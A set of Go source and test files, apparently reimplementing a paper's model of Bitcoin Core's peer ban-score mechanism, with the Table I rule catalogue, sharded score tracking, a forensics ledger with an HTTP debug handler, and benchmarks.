// IsBanned reports whether the identifier is currently banned.
func (t *Tracker) IsBanned(id PeerID) bool { return t.banlist.IsBanned(id) }

// AddGood credits the peer's good score — the paper's good-score mechanism
// increments by 1 for each valid BLOCK the peer delivers.
func (t *Tracker) AddGood(id PeerID) int {
	s := t.shard(id)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.good[id]++
	return s.good[id]
}

// GoodScore returns the peer's accumulated good score. Read-only (RLock).
func (t *Tracker) GoodScore(id PeerID) int {
	s := t.shard(id)
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.good[id]
}

// Reputation returns goodScore - banScore, the non-binary peer-health
// ranking the paper suggests the retained scores could feed. Read-only
// (RLock): RankPeers calls this once per connected peer per eviction
// decision, and must not stall the scoring write path.
func (t *Tracker) Reputation(id PeerID) int {
	s := t.shard(id)
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.good[id] - s.scores[id]
}

// TrackedPeers returns how many peers currently hold a non-zero ban score,
// merging per-shard snapshots (consistent per shard, not one atomic cut —
// the same guarantee callers had against concurrent scoring before).
func (t *Tracker) TrackedPeers() int {
	n := 0
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.RLock()
		n += len(s.scores)
		s.mu.RUnlock()
	}
	return n
}
