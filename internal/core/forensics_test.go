package core

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

func TestNilLedgerIsNoOp(t *testing.T) {
	var l *Ledger
	l.Append(BanRecord{Peer: "p:1"})
	if l.Records("p:1") != nil || l.Peers() != nil || l.Total() != 0 {
		t.Error("nil ledger retained state")
	}
}

func TestLedgerAppendStampsSequence(t *testing.T) {
	l := NewLedger(0, 0)
	for i := 0; i < 3; i++ {
		l.Append(BanRecord{Peer: "a:1", RuleID: AddrOversize, Rule: "AddrOversize", Delta: 20, Score: 20 * (i + 1)})
	}
	l.Append(BanRecord{Peer: "b:2", Delta: 100, Score: 100, Banned: true})

	a := l.Records("a:1")
	if len(a) != 3 {
		t.Fatalf("chain a holds %d records", len(a))
	}
	for i, r := range a {
		if r.Seq != uint64(i+1) || r.Score != 20*(i+1) {
			t.Errorf("record %d: seq=%d score=%d", i, r.Seq, r.Score)
		}
	}
	if b := l.Records("b:2"); len(b) != 1 || b[0].Seq != 1 {
		t.Errorf("chain b: %+v", b)
	}
	if got := l.Peers(); len(got) != 2 || got[0] != "a:1" || got[1] != "b:2" {
		t.Errorf("peers %v", got)
	}
	if l.Total() != 4 {
		t.Errorf("total %d", l.Total())
	}

	// Records returns a copy — mutating it must not corrupt the ledger.
	a[0].Score = 9999
	if l.Records("a:1")[0].Score == 9999 {
		t.Error("Records exposed internal storage")
	}
}

func TestLedgerWholePeerEviction(t *testing.T) {
	l := NewLedger(2, 0)
	l.Append(BanRecord{Peer: "a:1"})
	l.Append(BanRecord{Peer: "b:2"})
	l.Append(BanRecord{Peer: "c:3"}) // evicts a:1, the oldest

	if l.Records("a:1") != nil {
		t.Error("oldest peer not evicted")
	}
	if l.Records("b:2") == nil || l.Records("c:3") == nil {
		t.Error("surviving peers lost")
	}
	if got := l.Peers(); len(got) != 2 || got[0] != "b:2" || got[1] != "c:3" {
		t.Errorf("peers after eviction: %v", got)
	}
}

func TestLedgerPerPeerTrim(t *testing.T) {
	l := NewLedger(0, 3)
	for i := 1; i <= 5; i++ {
		l.Append(BanRecord{Peer: "a:1", Score: 10 * i})
	}
	records := l.Records("a:1")
	if len(records) != 3 {
		t.Fatalf("chain holds %d records, want 3", len(records))
	}
	// The oldest were trimmed; sequence numbers keep counting.
	for i, r := range records {
		if r.Seq != uint64(i+3) || r.Score != 10*(i+3) {
			t.Errorf("record %d: seq=%d score=%d", i, r.Seq, r.Score)
		}
	}
	if l.Total() != 5 {
		t.Errorf("total %d, want 5 (trim does not rewrite history count)", l.Total())
	}
}

func TestTrackerRecordsForensics(t *testing.T) {
	ledger := NewLedger(0, 0)
	now := time.Date(2026, 8, 5, 12, 0, 0, 0, time.UTC)
	tr := NewTracker(Config{
		Forensics: ledger,
		Clock:     func() time.Time { return now },
	})
	id := PeerID("10.0.0.9:4747")

	// Five oversize ADDRs ban at the 100 threshold; each call must leave a
	// record carrying the triggering command and trace ID.
	for i := 1; i <= 5; i++ {
		res := tr.MisbehavingCtx(id, true, AddrOversize, MisbehaviorContext{Command: "addr", TraceID: uint64(100 + i)})
		if !res.Applied || res.Score != 20*i {
			t.Fatalf("call %d: %+v", i, res)
		}
		if res.Banned != (i == 5) {
			t.Fatalf("call %d banned=%v", i, res.Banned)
		}
	}
	if !tr.IsBanned(id) {
		t.Fatal("peer not banned")
	}

	records := ledger.Records(id)
	if len(records) != 5 {
		t.Fatalf("ledger holds %d records", len(records))
	}
	for i, r := range records {
		if r.Peer != id || r.RuleID != AddrOversize || r.Rule != "AddrOversize" ||
			r.Delta != 20 || r.Score != 20*(i+1) || !r.At.Equal(now) ||
			r.Command != "addr" || r.TraceID != uint64(101+i) {
			t.Errorf("record %d: %+v", i, r)
		}
		if r.Banned != (i == 4) {
			t.Errorf("record %d banned=%v", i, r.Banned)
		}
	}

	// Forget drops live score state but never forensic history.
	tr.Forget(id)
	if got := ledger.Records(id); len(got) != 5 {
		t.Errorf("Forget erased forensics: %d records left", len(got))
	}

	// The bare Misbehaving wrapper records too, with empty context.
	tr2 := NewTracker(Config{Forensics: ledger})
	tr2.Misbehaving("x:1", true, InvOversize)
	if got := ledger.Records("x:1"); len(got) != 1 || got[0].Command != "" || got[0].TraceID != 0 {
		t.Errorf("wrapper record: %+v", got)
	}
}

func TestTrackerRecordsPayloadEvidence(t *testing.T) {
	// The evidence chain: a context carrying the offending message's wire
	// checksum and length must land verbatim in the ledger record, and the
	// Result must report the rule's delta for reputation-layer charging.
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{Forensics: ledger})
	id := PeerID("10.0.0.9:4747")
	res := tr.MisbehavingCtx(id, true, AddrOversize, MisbehaviorContext{
		Command:       "addr",
		TraceID:       7,
		PayloadDigest: 0xdeadbeef,
		PayloadLen:    30012,
	})
	if !res.Applied || res.Delta != 20 {
		t.Fatalf("result %+v, want applied with delta 20", res)
	}
	records := ledger.Records(id)
	if len(records) != 1 {
		t.Fatalf("ledger holds %d records, want 1", len(records))
	}
	r := records[0]
	if r.PayloadDigest != 0xdeadbeef || r.PayloadLen != 30012 {
		t.Fatalf("record evidence (%#x, %d), want (0xdeadbeef, 30012)", r.PayloadDigest, r.PayloadLen)
	}
	// Evidence-free hits keep the fields out of the JSON document.
	tr.MisbehavingCtx("y:1", true, InvOversize, MisbehaviorContext{Command: "inv"})
	doc, err := json.Marshal(ledger.Records("y:1")[0])
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(doc), "payload_digest") {
		t.Fatalf("evidence-free record leaked digest field: %s", doc)
	}
}

func TestTrackerModesAndForensics(t *testing.T) {
	// Infinity mode scores without banning — records must say so.
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{Mode: ModeThresholdInfinity, Forensics: ledger})
	id := PeerID("inf:1")
	for i := 0; i < 7; i++ {
		tr.MisbehavingCtx(id, true, AddrOversize, MisbehaviorContext{Command: "addr"})
	}
	records := ledger.Records(id)
	if len(records) != 7 {
		t.Fatalf("infinity mode: %d records", len(records))
	}
	for _, r := range records {
		if r.Banned {
			t.Errorf("infinity mode record claims a ban: %+v", r)
		}
	}
	if records[6].Score != 140 {
		t.Errorf("infinity mode final score %d", records[6].Score)
	}

	// Disabled mode never scores, so nothing is recorded.
	ledger2 := NewLedger(0, 0)
	tr2 := NewTracker(Config{Mode: ModeDisabled, Forensics: ledger2})
	tr2.Misbehaving("off:1", true, AddrOversize)
	if ledger2.Total() != 0 {
		t.Errorf("disabled mode recorded %d entries", ledger2.Total())
	}
}

func TestLedgerHandler(t *testing.T) {
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{Forensics: ledger})
	id := PeerID("10.0.0.9:4747")
	for i := 0; i < 5; i++ {
		tr.MisbehavingCtx(id, true, AddrOversize, MisbehaviorContext{Command: "addr"})
	}
	h := ledger.Handler(tr.IsBanned)

	get := func(path string) (*httptest.ResponseRecorder, []byte) {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
		return rec, rec.Body.Bytes()
	}

	// The peer chain: complete, ordered, annotated with live ban state.
	rec, body := get("/debug/bans/" + string(id))
	if rec.Code != http.StatusOK {
		t.Fatalf("peer chain: HTTP %d", rec.Code)
	}
	var peerDoc peerResponse
	if err := json.Unmarshal(body, &peerDoc); err != nil {
		t.Fatal(err)
	}
	if peerDoc.Peer != id || len(peerDoc.Records) != 5 {
		t.Fatalf("peer doc: %+v", peerDoc)
	}
	for i, r := range peerDoc.Records {
		if r.Seq != uint64(i+1) || r.Score != 20*(i+1) || r.Rule != "AddrOversize" || r.Delta != 20 {
			t.Errorf("served record %d: %+v", i, r)
		}
	}
	if peerDoc.CurrentlyBanned == nil || !*peerDoc.CurrentlyBanned {
		t.Error("currently_banned not true for a banned peer")
	}

	// The index lists the peer with its final score.
	rec, body = get("/debug/bans")
	if rec.Code != http.StatusOK {
		t.Fatalf("index: HTTP %d", rec.Code)
	}
	var index indexResponse
	if err := json.Unmarshal(body, &index); err != nil {
		t.Fatal(err)
	}
	if index.Total != 5 || len(index.Peers) != 1 {
		t.Fatalf("index: %+v", index)
	}
	if p := index.Peers[0]; p.Peer != id || p.Records != 5 || p.Score != 100 || !p.Banned || p.LastRule != "AddrOversize" {
		t.Errorf("index row: %+v", p)
	}

	// Unknown peers 404 with a JSON error body.
	rec, body = get("/debug/bans/1.2.3.4:5")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown peer: HTTP %d", rec.Code)
	}
	var errDoc map[string]string
	if err := json.Unmarshal(body, &errDoc); err != nil || errDoc["error"] == "" {
		t.Errorf("unknown peer error body: %s (%v)", body, err)
	}
}

func TestLedgerHandlerEscapedPeerAndContentType(t *testing.T) {
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{Forensics: ledger})
	plain := PeerID("10.0.0.9:4747")
	v6 := PeerID("[::1]:8333")
	tr.Misbehaving(plain, true, AddrOversize)
	tr.Misbehaving(v6, true, AddrOversize)
	h := ledger.Handler(tr.IsBanned)

	get := func(path string) (*httptest.ResponseRecorder, []byte) {
		t.Helper()
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
		if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
			t.Fatalf("GET %s: Content-Type = %q, want application/json", path, ct)
		}
		return rec, rec.Body.Bytes()
	}

	// Clients that percent-escape the peer's path segment (":" → %3A, and
	// the IPv6 brackets) must resolve the same peer as the literal form.
	for _, path := range []string{
		"/debug/bans/" + string(plain),
		"/debug/bans/10.0.0.9%3A4747",
		"/debug/bans/" + string(v6),
		"/debug/bans/%5B%3A%3A1%5D%3A8333",
	} {
		rec, body := get(path)
		if rec.Code != http.StatusOK {
			t.Errorf("GET %s: HTTP %d, want 200", path, rec.Code)
			continue
		}
		var doc peerResponse
		if err := json.Unmarshal(body, &doc); err != nil || len(doc.Records) != 1 {
			t.Errorf("GET %s: %s (%v)", path, body, err)
		}
	}

	// Unknown peers stay 404 with a JSON error body — never 200-with-empty.
	rec, body := get("/debug/bans/203.0.113.1%3A5")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown escaped peer: HTTP %d, want 404", rec.Code)
	}
	var errDoc map[string]string
	if err := json.Unmarshal(body, &errDoc); err != nil || errDoc["error"] == "" {
		t.Errorf("unknown peer error body: %s (%v)", body, err)
	}
}

func TestLedgerHandlerEvictionCounters(t *testing.T) {
	ledger := NewLedger(1, 2)
	for i := 0; i < 3; i++ {
		ledger.Append(BanRecord{Peer: "old:1", Score: i})
	}
	ledger.Append(BanRecord{Peer: "new:2"}) // evicts old:1

	rec := httptest.NewRecorder()
	ledger.Handler(nil).ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bans", nil))
	var index indexResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &index); err != nil {
		t.Fatal(err)
	}
	if index.Evicted != 1 || index.Trimmed != 1 || index.Total != 4 {
		t.Errorf("index counters: %+v", index)
	}
	// No isBanned callback: the summary keeps the recorded ban flag.
	if len(index.Peers) != 1 || index.Peers[0].Peer != "new:2" {
		t.Errorf("index rows: %+v", index.Peers)
	}
}

func TestLedgerConcurrentAppend(t *testing.T) {
	l := NewLedger(0, 0)
	done := make(chan struct{})
	for g := 0; g < 8; g++ {
		go func(g int) {
			defer func() { done <- struct{}{} }()
			id := PeerID(fmt.Sprintf("p:%d", g))
			for i := 0; i < 100; i++ {
				l.Append(BanRecord{Peer: id, Score: i})
			}
		}(g)
	}
	for g := 0; g < 8; g++ {
		<-done
	}
	if l.Total() != 800 {
		t.Errorf("total %d, want 800", l.Total())
	}
	for g := 0; g < 8; g++ {
		id := PeerID(fmt.Sprintf("p:%d", g))
		records := l.Records(id)
		if len(records) != 100 {
			t.Fatalf("%s: %d records", id, len(records))
		}
		for i, r := range records {
			if r.Seq != uint64(i+1) {
				t.Fatalf("%s record %d: seq %d", id, i, r.Seq)
			}
		}
	}
}
