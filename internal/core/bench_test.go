package core

import (
	"fmt"
	"sync"
	"testing"
	"time"
)

// benchPeerIDs returns n distinct identifiers shaped like real [IP:Port]
// peer IDs, spread across shards the way distinct attackers would be.
func benchPeerIDs(n int) []PeerID {
	ids := make([]PeerID, n)
	for i := range ids {
		ids[i] = PeerID(fmt.Sprintf("[10.%d.%d.%d]:8333", i>>16&0xff, i>>8&0xff, i&0xff))
	}
	return ids
}

// singleMutexTracker reproduces the pre-shard tracker's critical section —
// one global mutex guarding one score map — as the contention baseline the
// sharded engine is measured against in the same benchmark run.
type singleMutexTracker struct {
	mu     sync.Mutex
	scores map[PeerID]int
}

func (t *singleMutexTracker) misbehaving(id PeerID, score int) int {
	t.mu.Lock()
	t.scores[id] += score
	total := t.scores[id]
	t.mu.Unlock()
	return total
}

// runScoreBench fans b.N misbehavior hits across g goroutines, each acting
// as one distinct peer — the BM-DoS shape: many attackers scoring
// concurrently against one victim's tracker. Goroutine count is explicit
// (not RunParallel) so the sub-benchmark names mean the same thing on every
// machine regardless of GOMAXPROCS.
func runScoreBench(b *testing.B, g int, hit func(id PeerID)) {
	b.Helper()
	b.ReportAllocs()
	ids := benchPeerIDs(g)
	per := (b.N + g - 1) / g
	var wg sync.WaitGroup
	b.ResetTimer()
	for i := 0; i < g; i++ {
		wg.Add(1)
		go func(id PeerID) {
			defer wg.Done()
			for j := 0; j < per; j++ {
				hit(id)
			}
		}(ids[i])
	}
	wg.Wait()
}

// BenchmarkBanScoreParallel measures the tracker's misbehavior hot path
// under 1, 8, and 64 concurrent peers, against the single-global-mutex
// design it replaced. ModeThresholdInfinity keeps scores accumulating
// without ban-list churn, isolating the score-path lock behavior.
func BenchmarkBanScoreParallel(b *testing.B) {
	for _, g := range []int{1, 8, 64} {
		b.Run(fmt.Sprintf("goroutines=%d", g), func(b *testing.B) {
			tr := NewTracker(Config{Mode: ModeThresholdInfinity})
			runScoreBench(b, g, func(id PeerID) {
				tr.Misbehaving(id, true, VersionDuplicate)
			})
		})
	}
	for _, g := range []int{1, 8, 64} {
		b.Run(fmt.Sprintf("baseline=single-mutex/goroutines=%d", g), func(b *testing.B) {
			tr := &singleMutexTracker{scores: make(map[PeerID]int)}
			runScoreBench(b, g, func(id PeerID) {
				tr.misbehaving(id, 1)
			})
		})
	}
}

// BenchmarkBanScoreForensics is the same hot path with the forensics ledger
// attached — every hit appends a BanRecord under the shard lock — so ledger
// overhead regressions surface in the bench gate.
func BenchmarkBanScoreForensics(b *testing.B) {
	tr := NewTracker(Config{
		Mode:      ModeThresholdInfinity,
		Forensics: NewLedger(1024, 128),
	})
	runScoreBench(b, 8, func(id PeerID) {
		tr.MisbehavingCtx(id, true, VersionDuplicate, MisbehaviorContext{Command: "version"})
	})
}

// BenchmarkBanListContention measures the read-mostly IsBanned path — the
// check every inbound connection and message pays — while 64 goroutines
// read concurrently. Before sharding + RLock this serialized on one write
// lock; the benchmark keeps a small banned population so both the hit and
// miss paths are exercised.
func BenchmarkBanListContention(b *testing.B) {
	bl := NewBanList(time.Now)
	ids := benchPeerIDs(256)
	for _, id := range ids[:32] {
		bl.Ban(id, time.Hour)
	}
	b.ReportAllocs()
	const g = 64
	per := (b.N + g - 1) / g
	var wg sync.WaitGroup
	b.ResetTimer()
	for i := 0; i < g; i++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for j := 0; j < per; j++ {
				bl.IsBanned(ids[(seed+j)&255])
			}
		}(i * 37)
	}
	wg.Wait()
}
