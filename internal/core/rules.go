// Package core implements the paper's central subject: Bitcoin Core's
// ban-score mechanism (misbehavior tracking). It provides the versioned
// Table I rule sets (Bitcoin Core 0.20.0 / 0.21.0 / 0.22.0), the per-peer
// score Tracker with the 100-point threshold and 24-hour ban of [IP:Port]
// connection identifiers, the ban filter, and the countermeasure modes the
// paper evaluates: threshold-to-infinity, fully disabled, and the
// good-score mechanism.
package core

import "fmt"

// CoreVersion selects which Bitcoin Core release's rule set applies.
type CoreVersion int

// Studied Bitcoin Core versions.
const (
	V0_20_0 CoreVersion = iota + 1
	V0_21_0
	V0_22_0
)

// String returns the release string.
func (v CoreVersion) String() string {
	switch v {
	case V0_20_0:
		return "0.20.0"
	case V0_21_0:
		return "0.21.0"
	case V0_22_0:
		return "0.22.0"
	}
	return fmt.Sprintf("Unknown CoreVersion (%d)", int(v))
}

// Versions lists the studied versions in order.
func Versions() []CoreVersion { return []CoreVersion{V0_20_0, V0_21_0, V0_22_0} }

// MisbehaviorType classifies a rule per Table I's final column.
type MisbehaviorType int

// Misbehavior types.
const (
	MisbehaviorInvalid MisbehaviorType = iota + 1
	MisbehaviorOversize
	MisbehaviorDisorder
	MisbehaviorRepeat
)

// String returns the type name used in Table I.
func (t MisbehaviorType) String() string {
	switch t {
	case MisbehaviorInvalid:
		return "Invalid"
	case MisbehaviorOversize:
		return "Oversize"
	case MisbehaviorDisorder:
		return "Disorder"
	case MisbehaviorRepeat:
		return "Repeat"
	}
	return fmt.Sprintf("Unknown MisbehaviorType (%d)", int(t))
}

// BanObject restricts which peer role a rule applies to (Table I's "Object
// of Ban" column).
type BanObject int

// Ban objects.
const (
	AnyPeer BanObject = iota + 1
	InboundPeer
	OutboundPeer
)

// String returns the object name used in Table I.
func (o BanObject) String() string {
	switch o {
	case AnyPeer:
		return "Any peer"
	case InboundPeer:
		return "Inbound peer"
	case OutboundPeer:
		return "Outbound peer"
	}
	return fmt.Sprintf("Unknown BanObject (%d)", int(o))
}

// RuleID identifies one Table I ban-score rule.
type RuleID int

// The Table I rules.
const (
	// BLOCK rules.
	BlockMutated RuleID = iota + 1
	BlockCachedInvalid
	BlockPrevInvalid
	BlockPrevMissing

	// TX rule.
	TxInvalidSegWit

	// GETBLOCKTXN rule.
	GetBlockTxnOutOfBounds

	// HEADERS rules.
	HeadersNonConnecting
	HeadersNonContinuous
	HeadersOversize

	// ADDR rule.
	AddrOversize

	// INV / GETDATA rules.
	InvOversize
	GetDataOversize

	// CMPCTBLOCK rule.
	CmpctBlockInvalid

	// FILTERLOAD / FILTERADD rules.
	FilterLoadOversize
	FilterAddNoBloomVersion
	FilterAddOversize

	// VERSION / VERACK handshake rules (deprecated across releases).
	VersionDuplicate
	MessageBeforeVersion
	MessageBeforeVerack
)

// String returns the rule name.
func (id RuleID) String() string {
	if r, ok := ruleCatalog[id]; ok {
		return r.Name
	}
	return fmt.Sprintf("Unknown RuleID (%d)", int(id))
}

// Rule is one row of Table I.
type Rule struct {
	ID          RuleID
	Name        string
	MessageType string
	Misbehavior string
	// Score per version; a missing version means the rule is deprecated
	// there (rendered "-" in Table I).
	Scores map[CoreVersion]int
	Object BanObject
	Type   MisbehaviorType
}

// ScoreIn returns the rule's score in the given version and whether the
// rule exists there.
func (r Rule) ScoreIn(v CoreVersion) (int, bool) {
	s, ok := r.Scores[v]
	return s, ok
}

// allScores is shorthand for a rule present at the same score in all three
// studied versions.
func allScores(s int) map[CoreVersion]int {
	return map[CoreVersion]int{V0_20_0: s, V0_21_0: s, V0_22_0: s}
}

// ruleCatalog is Table I verbatim.
var ruleCatalog = map[RuleID]Rule{
	BlockMutated: {
		ID: BlockMutated, Name: "BlockMutated", MessageType: "BLOCK",
		Misbehavior: "Block data was mutated",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	BlockCachedInvalid: {
		ID: BlockCachedInvalid, Name: "BlockCachedInvalid", MessageType: "BLOCK",
		Misbehavior: "Block was cached as invalid",
		Scores:      allScores(100), Object: OutboundPeer, Type: MisbehaviorInvalid,
	},
	BlockPrevInvalid: {
		ID: BlockPrevInvalid, Name: "BlockPrevInvalid", MessageType: "BLOCK",
		Misbehavior: "Previous block is invalid",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	BlockPrevMissing: {
		ID: BlockPrevMissing, Name: "BlockPrevMissing", MessageType: "BLOCK",
		Misbehavior: "Previous block is missing",
		Scores:      allScores(10), Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	TxInvalidSegWit: {
		ID: TxInvalidSegWit, Name: "TxInvalidSegWit", MessageType: "TX",
		Misbehavior: "Invalid by consensus rules of SegWit",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	GetBlockTxnOutOfBounds: {
		ID: GetBlockTxnOutOfBounds, Name: "GetBlockTxnOutOfBounds", MessageType: "GETBLOCKTXN",
		Misbehavior: "Out-of-bounds transaction indices",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	HeadersNonConnecting: {
		ID: HeadersNonConnecting, Name: "HeadersNonConnecting", MessageType: "HEADERS",
		Misbehavior: "10 non-connecting headers",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorDisorder,
	},
	HeadersNonContinuous: {
		ID: HeadersNonContinuous, Name: "HeadersNonContinuous", MessageType: "HEADERS",
		Misbehavior: "Non-continuous headers sequence",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorDisorder,
	},
	HeadersOversize: {
		ID: HeadersOversize, Name: "HeadersOversize", MessageType: "HEADERS",
		Misbehavior: "More than 2000 headers",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	AddrOversize: {
		ID: AddrOversize, Name: "AddrOversize", MessageType: "ADDR",
		Misbehavior: "More than 1000 addresses",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	InvOversize: {
		ID: InvOversize, Name: "InvOversize", MessageType: "INV",
		Misbehavior: "More than 50000 inventory entries",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	GetDataOversize: {
		ID: GetDataOversize, Name: "GetDataOversize", MessageType: "GETDATA",
		Misbehavior: "More than 50000 inventory entries",
		Scores:      allScores(20), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	CmpctBlockInvalid: {
		ID: CmpctBlockInvalid, Name: "CmpctBlockInvalid", MessageType: "CMPCTBLOCK",
		Misbehavior: "Invalid compact block data",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	FilterLoadOversize: {
		ID: FilterLoadOversize, Name: "FilterLoadOversize", MessageType: "FILTERLOAD",
		Misbehavior: "Bloom filter size > 36000 bytes",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	FilterAddNoBloomVersion: {
		ID: FilterAddNoBloomVersion, Name: "FilterAddNoBloomVersion", MessageType: "FILTERADD",
		Misbehavior: "Protocol version number >= 70011",
		Scores:      map[CoreVersion]int{V0_20_0: 100}, Object: AnyPeer, Type: MisbehaviorInvalid,
	},
	FilterAddOversize: {
		ID: FilterAddOversize, Name: "FilterAddOversize", MessageType: "FILTERADD",
		Misbehavior: "Data item > 520 bytes",
		Scores:      allScores(100), Object: AnyPeer, Type: MisbehaviorOversize,
	},
	VersionDuplicate: {
		ID: VersionDuplicate, Name: "VersionDuplicate", MessageType: "VERSION",
		Misbehavior: "Duplicate VERSION",
		Scores:      map[CoreVersion]int{V0_20_0: 1, V0_21_0: 1}, Object: InboundPeer, Type: MisbehaviorRepeat,
	},
	MessageBeforeVersion: {
		ID: MessageBeforeVersion, Name: "MessageBeforeVersion", MessageType: "VERSION",
		Misbehavior: "Message before VERSION",
		Scores:      map[CoreVersion]int{V0_20_0: 1, V0_21_0: 1}, Object: InboundPeer, Type: MisbehaviorDisorder,
	},
	MessageBeforeVerack: {
		ID: MessageBeforeVerack, Name: "MessageBeforeVerack", MessageType: "VERACK",
		Misbehavior: "Message (other than VERSION) before VERACK",
		Scores:      map[CoreVersion]int{V0_20_0: 1}, Object: InboundPeer, Type: MisbehaviorDisorder,
	},
}

// ruleOrder fixes the Table I row order for rendering.
var ruleOrder = []RuleID{
	BlockMutated, BlockCachedInvalid, BlockPrevInvalid, BlockPrevMissing,
	TxInvalidSegWit, GetBlockTxnOutOfBounds,
	HeadersNonConnecting, HeadersNonContinuous, HeadersOversize,
	AddrOversize, InvOversize, GetDataOversize, CmpctBlockInvalid,
	FilterLoadOversize, FilterAddNoBloomVersion, FilterAddOversize,
	VersionDuplicate, MessageBeforeVersion, MessageBeforeVerack,
}

// Catalog returns every rule in Table I order.
func Catalog() []Rule {
	out := make([]Rule, 0, len(ruleOrder))
	for _, id := range ruleOrder {
		out = append(out, ruleCatalog[id])
	}
	return out
}

// LookupRule returns the rule for id.
func LookupRule(id RuleID) (Rule, bool) {
	r, ok := ruleCatalog[id]
	return r, ok
}

// RuleSet returns the rules active in the given Core version, keyed by id,
// with the version-specific score resolved.
func RuleSet(v CoreVersion) map[RuleID]int {
	out := make(map[RuleID]int)
	for id, r := range ruleCatalog {
		if s, ok := r.Scores[v]; ok {
			out[id] = s
		}
	}
	return out
}

// MessageTypeCount is the number of P2P message types in the developer
// reference; the paper observes that only 12 of these 26 carry ban-score
// rules in 0.20.0, leaving the rest (e.g. PING) as score-free DoS vectors.
const MessageTypeCount = 26

// ScoredMessageTypes returns the distinct message types that carry at least
// one ban rule in the given version.
func ScoredMessageTypes(v CoreVersion) []string {
	seen := make(map[string]struct{})
	var out []string
	for _, id := range ruleOrder {
		r := ruleCatalog[id]
		if _, ok := r.Scores[v]; !ok {
			continue
		}
		if _, dup := seen[r.MessageType]; dup {
			continue
		}
		seen[r.MessageType] = struct{}{}
		out = append(out, r.MessageType)
	}
	return out
}
