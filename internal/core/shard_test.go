package core

import (
	"fmt"
	"sync"
	"testing"
	"time"
)

func TestPickShardCountPowerOfTwo(t *testing.T) {
	n := pickShardCount()
	if n < minShards || n > maxShards {
		t.Fatalf("shard count %d outside [%d, %d]", n, minShards, maxShards)
	}
	if n&(n-1) != 0 {
		t.Fatalf("shard count %d is not a power of two", n)
	}
	tr := NewTracker(Config{})
	if tr.ShardCount() != n {
		t.Fatalf("tracker shards %d, pickShardCount %d", tr.ShardCount(), n)
	}
	if bl := NewBanList(time.Now); bl.ShardCount() != n {
		t.Fatalf("banlist shards %d, pickShardCount %d", bl.ShardCount(), n)
	}
}

func TestShardForStableAndMasked(t *testing.T) {
	const mask = 7
	for i := 0; i < 1000; i++ {
		id := PeerID(fmt.Sprintf("[10.0.0.%d]:%d", i&0xff, 8000+i))
		a, b := shardFor(id, mask), shardFor(id, mask)
		if a != b {
			t.Fatalf("shardFor(%q) unstable: %d vs %d", id, a, b)
		}
		if a > mask {
			t.Fatalf("shardFor(%q) = %d beyond mask %d", id, a, mask)
		}
	}
}

// sameShardPeers returns two distinct peer IDs that land on the same shard
// of tr, so shard-boundary tests exercise genuine intra-shard interleaving.
func sameShardPeers(t *testing.T, tr *Tracker) (PeerID, PeerID) {
	t.Helper()
	mask := uint32(tr.ShardCount() - 1)
	first := PeerID("[10.9.0.1]:8333")
	want := shardFor(first, mask)
	for i := 2; i < 100000; i++ {
		id := PeerID(fmt.Sprintf("[10.9.%d.%d]:8333", i>>8&0xff, i&0xff))
		if shardFor(id, mask) == want {
			return first, id
		}
	}
	t.Fatal("no shard collision found")
	return "", ""
}

// TestSameShardPeersIndependent drives two peers that share a shard
// concurrently and checks neither's score bleeds into the other.
func TestSameShardPeersIndependent(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeThresholdInfinity})
	a, b := sameShardPeers(t, tr)
	const hits = 500
	var wg sync.WaitGroup
	for _, id := range []PeerID{a, b} {
		wg.Add(1)
		go func(id PeerID) {
			defer wg.Done()
			for i := 0; i < hits; i++ {
				tr.Misbehaving(id, true, VersionDuplicate)
			}
		}(id)
	}
	wg.Wait()
	if got := tr.Score(a); got != hits {
		t.Fatalf("peer a score %d, want %d", got, hits)
	}
	if got := tr.Score(b); got != hits {
		t.Fatalf("peer b score %d, want %d", got, hits)
	}
}

// TestForgetRacingMisbehaving hammers Forget against Misbehaving on the
// same peer. Under -race this proves the shard lock covers both paths; the
// invariant check is that the final score is coherent (either zero after
// the last Forget or a bounded positive count — never garbage).
func TestForgetRacingMisbehaving(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeThresholdInfinity})
	id := PeerID("[10.1.2.3]:8333")
	const rounds = 2000
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		for i := 0; i < rounds; i++ {
			tr.Misbehaving(id, true, VersionDuplicate)
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < rounds; i++ {
			tr.Forget(id)
		}
	}()
	wg.Wait()
	if got := tr.Score(id); got < 0 || got > rounds {
		t.Fatalf("score %d incoherent after race", got)
	}
}

// TestLedgerSeqPerPeerAcrossShards floods peers spread over every shard
